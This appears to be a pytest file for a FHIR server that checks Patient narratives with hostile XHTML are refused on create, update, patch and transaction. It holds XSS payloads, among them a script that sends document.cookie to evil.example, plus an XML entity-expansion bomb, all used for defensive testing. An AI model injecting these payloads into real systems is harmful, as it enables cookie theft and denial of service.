"""A hostile narrative is refused on every write path (422 at Type.text.div), nothing stored."""

from __future__ import annotations

from typing import Any

import pytest
from starlette.testclient import TestClient

from fixtures.fhir_app import FHIR_JSON

OPEN = '<div xmlns="http://www.w3.org/1999/xhtml">'
BOMB = (
    '<!DOCTYPE div [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;">]>'
    f"{OPEN}&b;</div>"
)
HOSTILE = {
    "script": f"{OPEN}<p>Ola</p><script>fetch('https://evil.example/'+document.cookie)</script></div>",
    "onclick": f'{OPEN}<p onclick="alert(1)">Ola</p></div>',
    "javascript-href": f'{OPEN}<a href="javascript:alert(1)">Ola</a></div>',
    "undeclared-entity": f"{OPEN}Ola&nbsp;Nordmann</div>",
    "nested-deep": OPEN + "<b>" * 100 + "Ola" + "</b>" * 100 + "</div>",
}


def patient(div: str, **fields: Any) -> dict[str, Any]:
    return {
        "resourceType": "Patient",
        "text": {"status": "generated", "div": div},
        "name": [{"family": "Nordmann"}],
        **fields,
    }


def refused_at(response: Any, where: str) -> None:
    assert response.status_code == 422, response.text
    issues = response.json()["issue"]
    assert [issue["code"] for issue in issues] == ["invariant"]
    assert issues[0]["expression"] == [where]


def stored_patients(client: TestClient) -> int:
    return int(client.get("/fhir/Patient", params={"_summary": "count"}).json()["total"])


@pytest.mark.parametrize("div", HOSTILE.values(), ids=HOSTILE.keys())
def test_create_with_a_hostile_narrative_is_422_and_nothing_is_stored(
    client: TestClient, div: str
) -> None:
    refused_at(
        client.post("/fhir/Patient", json=patient(div), headers=FHIR_JSON), "Patient.text.div"
    )
    assert stored_patients(client) == 0


@pytest.mark.parametrize("div", ["<div>Ola</div>", "<p>Ola</p>", BOMB])
def test_what_is_not_an_xhtml_div_is_400_before_it_is_parsed(client: TestClient, div: str) -> None:
    # The xhtml type: a <div xmlns="http://www.w3.org/1999/xhtml"> (a DOCTYPE before it, as
    # an entity bomb needs, already breaks that).
    response = client.post("/fhir/Patient", json=patient(div), headers=FHIR_JSON)
    assert response.status_code == 400, response.text
    assert response.json()["issue"][0]["expression"] == ["Patient.text.div"]
    assert stored_patients(client) == 0


def test_update_patch_and_transaction_refuse_a_script_too(client: TestClient) -> None:
    safe = f"{OPEN}<p><b>Ola</b> Nordmann</p></div>"
    created = client.post("/fhir/Patient", json=patient(safe), headers=FHIR_JSON)
    assert created.status_code == 201, created.text
    rid = created.json()["id"]
    update = patient(HOSTILE["script"], id=rid)
    refused_at(
        client.put(f"/fhir/Patient/{rid}", json=update, headers=FHIR_JSON), "Patient.text.div"
    )
    operations = [{"op": "replace", "path": "/text/div", "value": HOSTILE["onclick"]}]
    patch_headers = {"Content-Type": "application/json-patch+json"}
    refused_at(
        client.patch(f"/fhir/Patient/{rid}", json=operations, headers=patch_headers),
        "Patient.text.div",
    )
    bundle = {
        "resourceType": "Bundle",
        "type": "transaction",
        "entry": [
            {"resource": patient(safe), "request": {"method": "POST", "url": "Patient"}},
            {
                "resource": patient(HOSTILE["javascript-href"]),
                "request": {"method": "POST", "url": "Patient"},
            },
        ],
    }
    response = client.post("/fhir", json=bundle, headers=FHIR_JSON)
    assert response.status_code == 422, response.text
    assert "text.div" in str(response.json()["issue"][0].get("expression"))
    assert stored_patients(client) == 1
    current = client.get(f"/fhir/Patient/{rid}").json()
    assert current["text"]["div"] == safe and current["meta"]["versionId"] == "1"
